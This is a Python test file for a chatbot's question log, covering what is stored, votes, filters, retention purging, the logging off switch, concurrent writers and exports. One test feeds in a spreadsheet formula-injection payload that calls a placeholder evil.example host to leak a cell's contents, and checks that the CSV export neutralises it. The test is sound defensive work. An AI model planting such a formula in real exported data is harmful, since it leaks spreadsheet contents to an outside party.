"""The question log: what it keeps (and not), votes, filters, retention, the off switch, concurrent writers."""

from __future__ import annotations

import io
import json
import sqlite3
import threading
from datetime import datetime, timedelta, timezone

from support.fakes import answer, citation

from bot.records.questions import QuestionFilter, QuestionLog
from bot.web.chat import Chat


def test_an_entry_keeps_the_outcome_and_nothing_personal(tmp_path):
    log = QuestionLog(tmp_path / "questions.sqlite3")
    entry = log.record(answer("Who leads it?", citations=[citation(1), citation(2)]))
    [row] = log.rows()
    assert row["id"] == entry and row["question"] == "Who leads it?" and row["language"] == "en"
    assert row["status"] == "answered" and row["mode"] == "extractive" and row["vote"] is None
    assert row["passages"] == ["amf-p001", "amf-p002"]
    with sqlite3.connect(tmp_path / "questions.sqlite3") as db:
        columns = {c[1] for c in db.execute("PRAGMA table_info(questions)")}
    assert columns == {"id", "time", "question", "language", "status", "mode", "passages", "validated", "vote",
                       "reason"}  # the reason of a thumbs-down is the visitor's choice, not personal data


def test_votes_filters_and_the_queue(tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3")
    liked = log.record(answer("A?"))
    disliked = log.record(answer("B?", "fr"))
    log.record(answer("C?", "it", status="not_found"))
    assert log.attach_vote(liked, 1) and log.attach_vote(disliked, -1)
    assert not log.attach_vote(9999, 1)
    assert [r["question"] for r in log.rows(QuestionFilter(queue_only=True))] == ["C?", "B?"]
    assert [r["question"] for r in log.rows(QuestionFilter(language="it"))] == ["C?"]
    assert [r["question"] for r in log.rows(QuestionFilter(status="answered"))] == ["B?", "A?"]
    today = datetime.now(timezone.utc).date()
    assert len(log.rows(QuestionFilter(since=today.isoformat(), until=today.isoformat()))) == 3
    assert log.rows(QuestionFilter(until=(today - timedelta(days=1)).isoformat())) == []
    out = io.StringIO()
    assert log.export(out, "jsonl") == 3
    assert {json.loads(line)["question"] for line in out.getvalue().splitlines()} == {"A?", "B?", "C?"}


def test_old_entries_are_purged(tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3", retention_days=30)
    now = datetime.now(timezone.utc)
    log.record(answer("old?"), now=now - timedelta(days=31))
    log.record(answer("recent?"), now=now - timedelta(days=29))
    assert log.purge(now) == 1
    assert [r["question"] for r in log.rows()] == ["recent?"]


def test_logging_off_writes_nothing(tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3", enabled=False)
    assert log.record(answer("A?")) is None
    assert not (tmp_path / "q.sqlite3").exists()


def test_concurrent_visitors_lose_no_entry(tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3")
    errors = []

    def visitor(n: int) -> None:
        try:
            for i in range(25):
                log.attach_vote(log.record(answer(f"{n}-{i}?")), 1)
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=visitor, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    rows = log.rows(QuestionFilter(limit=1000))
    assert errors == [] and len(rows) == 200 and all(r["vote"] == 1 for r in rows)


def test_the_chat_logs_each_question_and_links_the_thumbs(tmp_path):
    from support.fakes import ScriptedAssistant

    from bot.records.feedback import FeedbackStore

    log = QuestionLog(tmp_path / "q.sqlite3")
    chat = Chat(ScriptedAssistant({"Q?": answer("Q?")}), FeedbackStore(tmp_path / "f.sqlite3"), log)
    turns = list(chat.respond("Q?", []))[-1].turns
    chat.api_answer("Unknown?")
    assert chat.vote(turns, 1, False)
    rows = log.rows()
    assert [(r["question"], r["status"], r["vote"]) for r in rows] == [("Unknown?", "not_found", None), ("Q?", "answered", -1)]


def test_the_staff_desk_groups_frequent_questions_and_exports(tmp_path):
    from bot.answering.validated import ValidatedAnswers, calibrated_threshold
    from bot.embedders.hashing import HashEmbeddings
    from bot.web.staff_desk import StaffDesk

    log = QuestionLog(tmp_path / "q.sqlite3")
    for question, language in [("Who leads the working group?", "en"), ("who leads the working group ?", "en"),
                               ("Who leads the working group?", "en"), ("Quels élus ukrainiens ?", "fr")]:
        log.record(answer(question, language))
    matcher = ValidatedAnswers(HashEmbeddings(), list, dict, calibrated_threshold("hash"))
    desk = StaffDesk(log, matcher, tmp_path / "validated", searcher=None)
    frequent = desk.frequent(QuestionFilter())
    assert [(f.count, f.languages) for f in frequent] == [(3, ["en"]), (1, ["fr"])]
    exported = desk.export(QuestionFilter(language="fr"))
    assert exported.splitlines()[0].startswith("id,time,question") and "Quels élus ukrainiens ?" in exported
    assert len(exported.splitlines()) == 2


def test_the_csv_export_writes_formulas_as_text(tmp_path):
    import csv
    import io

    log = QuestionLog(tmp_path / "q.sqlite3")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    log.record(answer(formula, status="not_found"))
    out = io.StringIO()
    assert log.export(out, "csv") == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["question"] == "'" + formula


def test_visitors_arriving_together_at_a_new_log_are_all_recorded(tmp_path):
    """Each connection used to switch the file to write-ahead logging and create the table: on a new
    file, connections doing so at the same moment failed with "database is locked"."""
    errors = []
    for attempt in range(60):
        log = QuestionLog(tmp_path / f"q{attempt}.sqlite3")
        start = threading.Barrier(8)

        def visitor(n: int) -> None:
            try:
                start.wait()
                log.record(answer(f"{n}?"))
            except Exception as exc:  # noqa: BLE001 - reported below
                errors.append(exc)

        threads = [threading.Thread(target=visitor, args=(n,)) for n in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(log.rows()) == 8 - len(errors)
    assert errors == []
